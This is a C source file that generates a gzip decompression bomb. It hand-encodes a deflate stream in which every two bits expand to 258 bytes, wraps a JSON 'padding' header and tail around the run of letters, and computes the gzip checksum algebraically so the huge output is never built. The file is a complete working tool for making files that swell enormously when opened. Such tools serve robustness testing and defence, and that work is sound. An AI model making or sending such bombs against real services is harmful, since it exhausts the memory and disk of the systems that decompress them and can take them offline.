/*
 * A gzip file by hand: a stored block with the beginning, one block in which
 * two bits stand for 258 bytes, a stored block with the end. Its checksum is
 * reckoned without going through the bytes. Pure; the caller owns the file.
 */
#include "gzip_bomb.h"

#include <stdbool.h>
#include <stdlib.h>
#include <string.h>

enum {
  MATCH = 258,      /* bytes of the longest match there is */
  FRAME_MAX = 1024, /* bytes of the file beside the matches */
  HEAD_SIZE = 12,
  TAIL_SIZE = 2
};
static const char HEAD[] = "{\"padding\":\"";
static const char TAIL[] = "\"}";

/* ---- the checksum ---- */

/* What some bytes do to a CRC register: bit i of it becomes matrix[i], all
 * of them summed up, and `constant`. */
typedef struct Step {
  uint32_t matrix[32], constant;
} Step;

static uint32_t apply(const Step *step, uint32_t crc) {
  uint32_t sum = step->constant;
  for (int i = 0; i < 32; i++)
    sum ^= (crc >> i & 1u) != 0 ? step->matrix[i] : 0;
  return sum;
}

/* First `first`, then `second`. */
static Step both(const Step *first, const Step *second) {
  Step step = {.constant = apply(second, first->constant)};
  for (int i = 0; i < 32; i++)
    step.matrix[i] = apply(second, first->matrix[i]) ^ second->constant;
  return step;
}

static uint32_t add_byte(uint32_t crc, unsigned char byte) {
  crc ^= byte;
  for (int i = 0; i < 8; i++)
    crc = (crc >> 1) ^ ((crc & 1u) != 0 ? 0xedb88320u : 0);
  return crc;
}

static uint32_t add_text(uint32_t crc, const char *text) {
  for (; *text != '\0'; text++)
    crc = add_byte(crc, (unsigned char)*text);
  return crc;
}

/* `count` times the letter a, by squaring. */
static uint32_t add_letters(uint32_t crc, uint64_t count) {
  Step power = {.constant = add_byte(0, 'a')};
  for (int i = 0; i < 32; i++)
    power.matrix[i] = add_byte((uint32_t)1 << i, 'a') ^ power.constant;
  for (; count > 0; count >>= 1) {
    crc = (count & 1u) != 0 ? apply(&power, crc) : crc;
    power = both(&power, &power);
  }
  return crc;
}

/* ---- the file ---- */

/* Bits are filled in from the lowest of each byte; the room was zeroed. */
typedef struct Bits {
  unsigned char *data;
  size_t size;   /* whole bytes */
  unsigned used; /* bits of the byte behind them */
} Bits;

static void put(Bits *out, unsigned value, unsigned bits) {
  for (unsigned i = 0; i < bits; i++) {
    out->data[out->size] |= (unsigned char)((value >> i & 1u) << out->used);
    out->used = (out->used + 1) % 8;
    out->size += out->used == 0 ? 1 : 0;
  }
}

static void put_stored(Bits *out, bool final, const char *text, size_t size,
                       size_t letters) {
  unsigned total = (unsigned)(size + letters);
  put(out, final ? 1 : 0, 3);
  put(out, 0, out->used == 0 ? 0 : 8 - out->used);
  put(out, total, 16);
  put(out, ~total, 16);
  memcpy(out->data + out->size, text, size);
  memset(out->data + out->size + size, 'a', letters);
  out->size += total;
}

/* Two symbols of one bit each: 256 (the end) is 0, 285 (a match of 258) is 1;
 * the one distance, 1 byte back, is the bit 0. */
static void put_codes(Bits *out) {
  /* Lengths of the code for lengths, in the order the format has: 18 (many
   * zeros) and 1 take one bit, all others none. */
  static const unsigned char LENGTHS[18] = {[2] = 1, [17] = 1};
  put(out, 4, 3);  /* not the final block; codes of its own */
  put(out, 29, 5); /* 286 symbols */
  put(out, 0, 5);  /* 1 distance */
  put(out, 14, 4); /* 18 lengths follow */
  for (size_t i = 0; i < sizeof LENGTHS; i++)
    put(out, LENGTHS[i], 3);
  put(out, 1 | (138 - 11) << 1, 8); /* symbols 0 to 137: none */
  put(out, 1 | (118 - 11) << 1, 8); /* to 255 */
  put(out, 0, 1);                   /* 256 */
  put(out, 1 | (28 - 11) << 1, 8);  /* to 284 */
  put(out, 0, 2);                   /* 285, and the distance */
}

static void put_matches(Bits *out, uint64_t count) {
  put_codes(out);
  for (; count > 0 && out->used != 0; count--)
    put(out, 1, 2);
  memset(out->data + out->size, 0x55, (size_t)(count / 4));
  out->size += (size_t)(count / 4);
  for (count %= 4; count > 0; count--)
    put(out, 1, 2);
  put(out, 0, 1);
}

char *gzip_bomb_make(uint64_t bytes, size_t *size) {
  static const unsigned char GZIP[10] = {0x1f, 0x8b, 8, [9] = 255};
  uint64_t letters = bytes - HEAD_SIZE - TAIL_SIZE;
  uint64_t matches = (letters - 1) / MATCH;
  Bits out = {.data = calloc(1, (size_t)(matches / 4) + FRAME_MAX)};
  if (!out.data)
    return NULL;
  memcpy(out.data, GZIP, sizeof GZIP);
  out.size = sizeof GZIP;
  /* A match repeats the letter before it, so at least one is stored. */
  put_stored(&out, false, HEAD, HEAD_SIZE, (size_t)(letters - matches * MATCH));
  put_matches(&out, matches);
  put_stored(&out, true, TAIL, TAIL_SIZE, 0);
  uint32_t crc = add_letters(add_text(0xffffffffu, HEAD), letters);
  put(&out, ~add_text(crc, TAIL), 32);
  put(&out, (uint32_t)bytes, 32);
  *size = out.size;
  return (char *)out.data;
}
